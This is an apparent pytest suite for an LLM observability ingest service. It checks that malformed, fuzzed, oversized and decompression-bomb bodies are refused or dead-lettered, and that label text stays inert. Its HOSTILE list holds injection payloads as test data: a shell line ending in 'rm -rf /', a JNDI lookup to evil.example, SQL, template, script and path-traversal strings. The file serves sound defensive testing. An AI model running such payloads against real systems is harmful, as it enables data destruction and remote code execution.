"""What is wrong, absurd or hostile gets a clear answer or a dead letter, and the process goes on."""

from __future__ import annotations

import base64
import gzip
import json
import socket
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
import zstandard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flyball.app.embedded import Embedded
from flyball.app.notify import AlertRouter
from flyball.app.settings import Settings
from flyball.app.wiring import make_pipeline
from flyball.core.codec import unpack_state
from flyball.core.events import AgentStep, Batch, Change, Event, GpuSample, LlmCall
from flyball.core.incident import IncidentChange
from flyball.remediation.render import Audience, Renderer
from flyball.streams.watermark import MAX_SENDERS
from tests.app._http import served
from tests.app._runtime import NOW, SetClock, calls, take
from tests.app.crash_child import settings as crash_settings
from tests.app.test_http import OTLP, litellm, ndjson, otlp_body, otlp_json

ACCEPTED = (200, 400, 413, 415, 422)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[httpx.Client, Embedded]]:
    """One for all: that it survives each test is part of the test."""
    with served(tmp_path_factory.mktemp("bad")) as found:
        yield found


@pytest.fixture
def client(server: tuple[httpx.Client, Embedded]) -> Iterator[httpx.Client]:
    """Afterwards good events are still taken, and read by the stages."""
    client, runtime = server
    yield client
    assert client.post("/v1/events", content=ndjson(calls(1))).status_code == 200
    assert runtime.wait_for(runtime.appended)
    assert runtime.failure is None
    assert client.get("/healthz").status_code == 200
    assert client.get("/v1/status").json()["disabled_detectors"] == {}


def newest_letter(client: httpx.Client) -> dict[str, Any]:
    found: dict[str, Any] = client.get("/v1/dead-letters", params={"limit": 1}).json()[0]
    return found


def event(**fields: Any) -> dict[str, Any]:
    return {"type": "llm_call", "at": NOW, "provider": "a", "model": "m"} | fields


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"input_tokens": -5}, "negative"),
        ({"cost_usd": -0.1}, "negative"),
        ({"latency_s": -1}, "negative"),
        ({"input_tokens": "many"}, "type"),
        ({"model": 7}, "type"),
        ({"at": "yesterday"}, "type"),
        ({"at": None}, "type"),
        ({"at": 0}, "timestamp"),
        ({"at": -1e12}, "timestamp"),
        ({"at": 4_102_444_800}, "timestamp"),
        ({"at": 1e300}, "timestamp"),
        ({"input_tokens": 10**13}, "too_large"),
        ({"input_tokens": 10**30}, None),
        ({"model": "m" * 600}, "too_long"),
        ({"type": "dragon"}, "unknown_type"),
        ({"type": 7}, None),
    ],
)
def test_a_wrong_field_is_refused_with_its_reason_and_kept_as_a_dead_letter(
    client: httpx.Client, fields: dict[str, Any], reason: str | None
) -> None:
    answer = client.post("/v1/events", json=event(**fields))
    assert answer.status_code == 400
    (error,) = answer.json()["errors"]
    assert reason in (None, error["reason"])
    assert error["detail"]
    letter = newest_letter(client)
    assert letter["reason"] == error["reason"]
    assert letter["size"] > 0


@pytest.mark.parametrize(
    "body",
    [
        b'{"type":"llm_call","at":NaN}', b'{"type":"llm_call","at":Infinity}', b'{"type":"llm_call","at":1e999}',
        b'{"type":"llm_call","at":1790000000,"cost_usd":NaN}', b'{"type":"llm_call","at":1790000000,"model":"\xff\xfe"}',
        b"\x00" * 1000, b"\xff" * 1000, b"{" * 100_000, b"[" * 100_000, b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        b'[{"type":"llm_call","at":1790000000},', b'"just a string"', b"null", b"[]x", b"[null]", b"[[]]", b"12",
        b'{"type":"llm_call","at":' + b"9" * 5000 + b"}", b'{"type":"llm_call"}' * 3,
    ],
)  # fmt: skip
@pytest.mark.parametrize("path", ["/v1/events", "/ingest/litellm", "/v1/traces"])
def test_bytes_that_are_no_events_are_refused_on_every_way_in(
    client: httpx.Client, path: str, body: bytes
) -> None:
    for content_type in ("application/json", OTLP):
        answer = client.post(path, content=body, headers={"content-type": content_type})
        assert answer.status_code in ACCEPTED, answer.text


@pytest.mark.parametrize("path", ["/v1/events", "/ingest/litellm", "/v1/traces"])
@pytest.mark.parametrize("body", [b"", b" ", b"\n\n", b"[]"])
def test_an_empty_body_is_nothing_to_do(client: httpx.Client, path: str, body: bytes) -> None:
    answer = client.post(path, content=body, headers={"content-type": "application/json"})
    assert answer.status_code in (200, 400)


def test_a_protobuf_cut_anywhere_is_answered_and_what_can_be_read_of_it_is_no_wrong_event(
    client: httpx.Client,
) -> None:
    body = otlp_body(3)
    for end in range(0, len(body), 7):
        answer = client.post("/v1/traces", content=body[:end], headers={"content-type": OTLP})
        assert answer.status_code in (200, 400)
        assert answer.headers["content-type"] == OTLP


def test_a_cut_protobuf_is_a_dead_letter_with_its_bytes(client: httpx.Client) -> None:
    body = otlp_body(3)[:-4]
    assert client.post("/v1/traces", content=body, headers={"content-type": OTLP}).status_code == 400
    letter = newest_letter(client)
    assert (letter["format"], letter["reason"]) == ("otlp", "protobuf")
    assert letter["size"] == len(body)
    assert base64.b64decode(letter["body"]) == body


@pytest.mark.parametrize("at", [0.0, 1.0, -5.0, 4_102_444_800.0, 1e18])
def test_times_of_1970_and_2100_are_refused_in_every_format(client: httpx.Client, at: float) -> None:
    payload = litellm(1, at)
    assert client.post("/ingest/litellm", json=payload).json()["accepted"] == 0
    trace = otlp_json()
    span = trace["resourceSpans"][0]["scopeSpans"][0]["spans"][0]
    span["startTimeUnixNano"] = span["endTimeUnixNano"] = str(int(at * 1e9))
    before = client.get("/v1/status").json()["events"]
    assert client.post("/v1/traces", json=trace).status_code in (200, 400)
    assert client.get("/v1/status").json()["events"] == before


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "zstd"])
def test_bombs_are_refused_without_being_blown_up(client: httpx.Client, encoding: str) -> None:
    zeros = b"\0" * (100 << 20)
    bomb = {
        "gzip": lambda: gzip.compress(zeros, 6),
        "deflate": lambda: zlib.compress(zeros, 6),
        "zstd": lambda: zstandard.compress(zeros),
    }[encoding]()
    assert len(bomb) < 1 << 20
    for path in ("/v1/events", "/v1/traces", "/ingest/litellm"):
        answer = client.post(
            path, content=bomb, headers={"content-encoding": encoding, "content-type": "application/json"}
        )
        assert answer.status_code == 413
        assert "decompressed" in answer.json()["error"]


@pytest.mark.parametrize("encoding", ["gzip", "zstd"])
def test_what_claims_to_be_compressed_and_is_not_is_the_senders_error(
    client: httpx.Client, encoding: str
) -> None:
    answer = client.post("/v1/events", content=b"not packed", headers={"content-encoding": encoding})
    assert answer.status_code == 400
    assert encoding in answer.json()["error"]


def test_a_body_of_a_hundred_megabytes_is_refused_by_its_announcement(client: httpx.Client) -> None:
    url = client.base_url
    head = f"POST /v1/events HTTP/1.1\r\nHost: {url.host}:{url.port}\r\nContent-Length: {100 << 20}\r\n\r\n"
    with socket.create_connection((url.host, url.port or 80), timeout=30) as connection:
        connection.sendall(head.encode())  # announced, not sent: the answer must not wait for it
        assert b" 413 " in connection.recv(4096).splitlines()[0]


def test_hundred_megabytes_in_pieces_are_refused_on_the_way(client: httpx.Client) -> None:
    try:
        status = client.post("/v1/events", content=(b" " * (1 << 20) for _ in range(100))).status_code
    except (httpx.WriteError, httpx.ReadError):
        status = 413  # it hung up on us, which is right too
    assert status == 413


def test_a_body_of_nothing_but_bad_lines_is_kept_as_one_letter_a_reason(client: httpx.Client) -> None:
    before = len(client.get("/v1/dead-letters", params={"limit": 1000}).json())
    body = b'{"type":"llm_call","at":"x"}\n' * 50_000
    answer = client.post("/v1/events", content=body)
    assert answer.status_code == 400
    assert (answer.json()["rejected"], len(answer.json()["errors"])) == (50_000, 10)
    letters = client.get("/v1/dead-letters", params={"limit": 1000}).json()
    assert len(letters) == before + 1
    assert letters[0]["size"] < 100_000


# --- labels ---------------------------------------------------------------------------------------------------------

HOSTILE = (
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "$(touch /tmp/owned); `id` | sh && rm -rf /",
    "<script>alert(1)</script>",
    "*bold* <!channel> <https://evil.example|click>",
    "\x1b[31mred\x1b[0m\x07",
    "a\r\nX-Injected: yes",
    "'; drop table incidents; --",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "\u202eevil\u200b",
    "%s%n%x {0.__class__} %(x)s",
)
LABELS = ("provider", "model", "deployment", "region", "app", "prompt", "team", "tenant", "agent", "run")


def hostile_outage(at: float, text: str, n: int = 60) -> list[Event]:
    labels: dict[str, Any] = dict.fromkeys(LABELS, text)
    return [
        LlmCall(
            at=at, id=f"{at}-{i}-{text[:20]}", **(labels | {"tenant": f"{text}{i % 5}"}),
            error="overloaded" if i % 5 else "", error_code=text[:100] if i % 5 else "", latency_s=1.0, key=text,
            finish=text, scope="",
        )
        for i in range(n)
    ]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_events_stays_text_in_incidents_and_alerts(tmp_path: Path, text: str) -> None:
    clock = SetClock()
    alerts = AlertRouter(crash_settings().notify)
    with served(tmp_path, clock, alerts=alerts) as (client, runtime):
        for second in range(40):
            clock.at = NOW + second
            failing = second >= 15
            events = hostile_outage(clock.at, text) if failing else hostile_outage(clock.at, text)[::5]
            take(runtime, events)
            runtime.wait_for(runtime.tick().result(30))
        (found,) = client.get("/v1/incidents").json()
        assert found["root"]["name"].startswith(text[:20])
        # Nothing of it was worked out: no 49, no class of the interpreter.
        assert "49" not in found["summary"].replace(text, "")
        assert "<class" not in json.dumps(found)
        changes = [msgspec.json.decode(b, type=IncidentChange) for b in _outbox(runtime)]
        assert changes
        for change in changes:
            message = Renderer().render(change, Audience("terminal", why="test"))
            assert "<class" not in str(message)
            assert "49" not in message.title.replace(text, "")
        shown = client.get(f"/v1/incidents/{found['id']}")
        assert shown.status_code == 200
        assert runtime.pipeline.disabled == {}


def _outbox(runtime: Embedded) -> list[bytes]:
    from sqlalchemy import text as sql

    with runtime.reader.connect() as c:
        return [r[0] for r in c.execute(sql("select body from outbox"))]


def _flood(
    make: Callable[[float, str], Event], rounds: int, bodies: int = 4
) -> tuple[dict[str, int], dict[str, int], int]:
    """Sizes of the stages' state half way through a flood of labels that are all new, and at its end; and its cells.

    Each round is 4000 events in so many bodies, each of a sender never heard before.
    """
    pipeline = make_pipeline(Settings(max_cells=500))
    number, half = 0, {}
    for turn in range(rounds):
        at = NOW + 10.0 * turn
        for _ in range(bodies):
            events = [make(at, f"x{number + i}") for i in range(4000 // bodies)]
            number += len(events)
            pipeline.feed(Batch(events, f"sender-{number}", at + 1))
        pipeline.tick(at + 1)
        if turn == rounds // 2:
            half = _sizes(pipeline.snapshot())
    assert pipeline.disabled == {}
    assert pipeline.counters.pages == 0
    return half, _sizes(pipeline.snapshot()), pipeline.windows.stats.cells


def _sizes(snapshot: bytes) -> dict[str, int]:
    return {name: len(state) for name, state in unpack_state(snapshot, "pipeline", 1)["stages"].items()}


FLOODS: dict[str, Callable[[float, str], Event]] = {
    "calls": lambda at, x: LlmCall(
        at=at, id=x, provider=x, model=x, deployment=x, region=x, app=x, prompt=x, team=x, tenant=x, key=x
    ),
    "agents": lambda at, x: LlmCall(at=at, id=x, provider="a", model="m", agent=x, run=x, input_tokens=10),
    "steps": lambda at, x: AgentStep(at=at, run=x, app=x, agent=x, tool=x, args_hash=x, result_hash=x),
    "gpus": lambda at, x: GpuSample(at=at, node=x, gpu=x, deployment=x, model=x, values={"gpu_util_ratio": 1.0}),
    "changes": lambda at, x: Change(at=at, kind="deploy", summary=x, labels={"app": x}),
}  # fmt: skip


@pytest.mark.parametrize("kind", FLOODS)
def test_a_flood_of_labels_never_seen_before_fills_tables_to_their_bound_and_no_further(kind: str) -> None:
    half, whole, cells = _flood(FLOODS[kind], rounds=28 if kind in ("agents", "steps") else 14)
    assert cells <= 500
    for stage, size in whole.items():
        # Two have a bound of their own, far above this flood: de-duplication a million calls of 45 bytes, the estate's list of
        # GPUs 200,000.
        if stage != "dedup" and (stage, kind) != ("estate", "gpus"):
            assert size <= 1.3 * half[stage] + 50_000, (stage, half[stage], size)


@pytest.mark.soak
@pytest.mark.timeout(3600)
def test_ten_million_distinct_labels_are_counted_in_bounded_tables() -> None:
    half, whole, cells = _flood(FLOODS["calls"], rounds=2500, bodies=10)
    assert cells <= 500
    assert MAX_SENDERS < 10 * 2500 / 2  # half way there are as many senders as are ever remembered
    # What tells copies forgets by halves of ten minutes: it holds between five and ten of them.
    assert whole.pop("dedup") <= 2.2 * half.pop("dedup")
    grown = {s: (half[s], size) for s, size in whole.items() if size > 1.3 * half[s] + 50_000}
    assert not grown


# --- fuzz -----------------------------------------------------------------------------------------------------------

scalars = (
    st.none()
    | st.booleans()
    | st.integers(-(10**20), 10**20)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
)
jsons = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=5),
    max_leaves=25,
)
names = st.sampled_from(
    (
        *LlmCall.__struct_fields__, *GpuSample.__struct_fields__, "type", "messages", "metadata", "startTime", "endTime",
        "status", "response_cost", "error_information", "request_tags", "model_parameters", "response",
    )
)  # fmt: skip
likely = st.dictionaries(names, jsons, max_size=12).map(
    lambda fields: {"type": "llm_call", "at": NOW} | fields
)
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))


@FUZZ
@given(body=st.lists(likely | jsons, max_size=5), lines=st.booleans())
@pytest.mark.parametrize("path", ["/v1/events", "/ingest/litellm", "/v1/traces"])
def test_any_json_is_answered(
    server: tuple[httpx.Client, Embedded], path: str, body: list[Any], lines: bool
) -> None:
    client, runtime = server
    content = "\n".join(map(json.dumps, body)) if lines else json.dumps(body)
    answer = client.post(path, content=content, headers={"content-type": "application/json"})
    assert answer.status_code in ACCEPTED
    assert isinstance(answer.json(), dict)
    assert runtime.failure is None


@FUZZ
@given(
    changes=st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=8),
    cut=st.integers(0, 50),
)
def test_any_damage_to_a_protobuf_is_answered(
    server: tuple[httpx.Client, Embedded], changes: list[tuple[int, int]], cut: int
) -> None:
    client, runtime = server
    body = bytearray(otlp_body(3))
    for at, value in changes:
        body[at % len(body)] = value
    answer = client.post("/v1/traces", content=bytes(body[: len(body) - cut]), headers={"content-type": OTLP})
    assert answer.status_code in (200, 400)
    assert runtime.wait_for(runtime.appended)
    assert runtime.failure is None


@FUZZ
@given(
    fields=st.dictionaries(st.sampled_from(LABELS), st.text(max_size=60), max_size=10),
    error=st.text(max_size=60),
)
def test_any_text_in_labels_is_read_by_the_stages(
    server: tuple[httpx.Client, Embedded], fields: dict[str, str], error: str
) -> None:  # fmt: skip
    client, runtime = server
    client.post("/v1/events", content=json.dumps(event(error=error, **fields)))
    assert runtime.wait_for(runtime.appended)
    assert runtime.failure is None
    assert client.get("/v1/status").json()["disabled_detectors"] == {}


@FUZZ
@given(body=jsons)
def test_any_json_from_people_and_enforcement_points_is_answered(
    server: tuple[httpx.Client, Embedded], body: Any
) -> None:
    client, runtime = server
    for path in ("/v1/enforced", "/v1/incidents/INC-1"):
        assert client.post(path, content=json.dumps(body)).status_code in (202, 404, 422)
    assert runtime.failure is None
